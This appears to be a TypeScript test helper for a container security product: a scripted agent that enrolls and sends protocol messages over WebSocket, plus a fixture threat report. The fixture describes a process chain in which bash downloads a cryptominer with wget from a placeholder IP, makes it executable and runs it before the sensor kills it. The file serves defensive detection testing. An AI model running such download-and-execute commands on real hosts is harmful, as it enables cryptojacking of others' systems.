import {
  AGENT_WS_PATH,
  agentBearer,
  PROTOCOL_VERSION,
  ServerFrame,
  type AgentMessage,
  type ProcessNode,
  type ThreatReport,
} from '@driftlock/protocol';
import { randomUUID } from 'crypto';
import { WebSocket } from 'ws';

type Body<T> = T extends unknown ? Omit<T, 'v' | 'id' | 'seq' | 'sentAt'> : never;

/**
 * An agent that speaks the real agent protocol over a real WebSocket, sending what a test tells
 * it to: the browser tests need threats that arrive the way a host agent sends them.
 */
export class ScriptedAgent {
  private seq = 0;
  private readonly acked = new Set<string>();
  private readonly errors: Array<Extract<ServerFrame, { type: 'error' }>> = [];
  private waiters: Array<() => void> = [];

  private constructor(private readonly ws: WebSocket) {
    ws.on('message', (data) => {
      const frame = ServerFrame.parse(JSON.parse(String(data)));
      if (frame.type === 'ack') this.acked.add(frame.id);
      if (frame.type === 'error') this.errors.push(frame);
      this.waiters.splice(0).forEach((wake) => wake());
    });
  }

  /** Enrolls with an enrollment token over REST, then connects and says hello. */
  static async enroll(base: string, token: string, hostname: string): Promise<ScriptedAgent> {
    const identity = {
      version: '0.1.0-e2e',
      hostname,
      kind: 'kubernetes' as const,
      cluster: 'prod',
      node: hostname,
      kernel: '6.1.0-e2e',
    };
    const res = await fetch(`${base}/api/v1/agents/enroll`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ token, agent: identity }),
    });
    if (res.status !== 201)
      throw new Error(`enroll ${hostname}: HTTP ${res.status} ${await res.text()}`);
    const { agentId, secret } = (await res.json()) as { agentId: string; secret: string };
    const ws = new WebSocket(base.replace(/^http/, 'ws') + AGENT_WS_PATH, {
      headers: { authorization: agentBearer(agentId, secret) },
    });
    await new Promise<void>((resolve, reject) => {
      ws.once('open', () => resolve());
      ws.once('unexpected-response', (_req, r) =>
        reject(new Error(`agent socket: HTTP ${r.statusCode}`)),
      );
      ws.once('error', reject);
    });
    const agent = new ScriptedAgent(ws);
    await agent.send({
      type: 'hello',
      agent: identity,
      capabilities: { inKernelKill: true, btf: true, runtimes: ['containerd'] },
      policyVersion: null,
    });
    return agent;
  }

  private post(body: Body<AgentMessage>): string {
    const id = randomUUID();
    const frame = {
      ...body,
      v: PROTOCOL_VERSION,
      id,
      seq: ++this.seq,
      sentAt: new Date().toISOString(),
    };
    this.ws.send(JSON.stringify(frame));
    return id;
  }

  private async waitUntil(done: () => boolean, what: string, timeoutMs: number): Promise<void> {
    const deadline = Date.now() + timeoutMs;
    while (!done()) {
      const error = this.errors[0];
      if (error) throw new Error(`agent: ${what}: ${error.code} ${error.message}`);
      if (Date.now() > deadline) throw new Error(`agent: ${what}: no ack within ${timeoutMs} ms`);
      await new Promise<void>((wake) => {
        this.waiters.push(wake);
        setTimeout(wake, 200);
      });
    }
  }

  /** Sends one message and waits for the server's ack of it. */
  async send(body: Body<AgentMessage>): Promise<void> {
    const id = this.post(body);
    await this.waitUntil(() => this.acked.has(id), body.type, 10_000);
  }

  /** Sends `count` messages keeping up to `window` unacknowledged, as a busy agent's outbox does. */
  async sendMany(
    count: number,
    make: (i: number) => Body<AgentMessage>,
    window = 256,
  ): Promise<void> {
    const base = this.acked.size;
    for (let i = 0; i < count; i += 1) {
      this.post(make(i));
      if (i + 1 - (this.acked.size - base) >= window)
        await this.waitUntil(() => i + 1 - (this.acked.size - base) < window, 'bulk send', 60_000);
    }
    await this.waitUntil(() => this.acked.size - base >= count, 'bulk send', 60_000);
  }

  close(): void {
    this.ws.close();
  }
}

export const MINERD_SHA256 = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855';

/**
 * The reference story as an agent reports it: in a `kubectl exec` session, bash downloads minerd,
 * makes it executable and runs it; the sensor kills it (exit 137) and it is quarantined.
 */
export function referenceThreat(
  commandLine = './minerd',
  { detectedAt = Date.now(), namespace = 'prod' }: { detectedAt?: number; namespace?: string } = {},
): ThreatReport {
  const now = detectedAt;
  const at = (s: number) => new Date(now - 30_000 + s * 1000).toISOString();
  const unique = randomUUID().slice(0, 8);
  const storylineId = `story-${unique}`;
  const pid = (name: string) => `p-${name}-${unique}`;
  const proc = (
    processId: string,
    parent: string | null,
    exe: string,
    args: string[],
    s: number,
    extra: Partial<ProcessNode> = {},
  ): ProcessNode => ({
    processId,
    parentProcessId: parent,
    storylineId,
    pid: 4100 + s,
    ppid: parent ? 4100 : 0,
    exe,
    args,
    argsTruncated: false,
    cwd: '/app',
    uid: 0,
    user: 'root',
    startedAt: at(s),
    exitedAt: null,
    exitCode: null,
    signal: null,
    flags: [],
    containerId: 'c0ffee00d15ea5e',
    origin: parent ? null : 'kubectl_exec',
    ...extra,
  });
  const threatId = `threat-${randomUUID()}`;
  return {
    threatId,
    detectedAt: at(12),
    engine: 'application_control',
    driftClass: 'new_binary',
    mode: 'protect',
    commandLine,
    processId: pid('minerd'),
    file: { path: '/app/minerd', size: 2_483_712, sha256: MINERD_SHA256 },
    mitigations: [
      {
        action: 'kill',
        outcome: 'succeeded',
        detail: 'killed in kernel before first instruction',
        at: at(12),
        exitCode: 137,
        killedInKernel: true,
        quarantineId: null,
        sha256: null,
        size: null,
      },
      {
        action: 'quarantine',
        outcome: 'succeeded',
        detail: 'moved to quarantine',
        at: at(12),
        exitCode: null,
        killedInKernel: false,
        quarantineId: `q-${randomUUID()}`,
        sha256: MINERD_SHA256,
        size: 2_483_712,
      },
    ],
    container: {
      id: 'c0ffee00d15ea5e',
      name: 'web',
      runtime: 'containerd',
      image: 'docker.io/library/node-web-app:1.0',
      imageDigest: 'sha256:3b5e1f0c9a7d6e4b2c8a0f1e3d5c7b9a1e3f5d7c9b1a3e5f7d9c1b3a5e7f9d1c',
      startedAt: at(-3600),
    },
    kubernetes: {
      podName: 'node-web-app-7d9f8c6b5-x2x4q',
      podUid: 'b1946ac9-2f36-4f0e-a3c1-5a3f1b7c9d21',
      namespace,
      podLabels: { app: 'node-web-app', tier: 'frontend' },
      containerName: 'web',
      node: 'worker-1',
      cluster: 'prod',
    },
    storyline: {
      storylineId,
      origin: 'kubectl_exec',
      processes: [
        proc(pid('bash'), null, '/bin/bash', ['bash'], 0),
        proc(pid('wget'), pid('bash'), '/usr/bin/wget', ['wget', 'http://203.0.113.7/minerd'], 4, {
          exitedAt: at(6),
          exitCode: 0,
        }),
        proc(pid('chmod'), pid('bash'), '/bin/chmod', ['chmod', '+x', 'minerd'], 8, {
          exitedAt: at(8),
          exitCode: 0,
        }),
        proc(pid('minerd'), pid('bash'), '/app/minerd', [commandLine], 12, {
          exitedAt: at(12),
          exitCode: 137,
          signal: 9,
          flags: ['upper_layer', 'killed_in_kernel'],
        }),
      ],
    },
  };
}
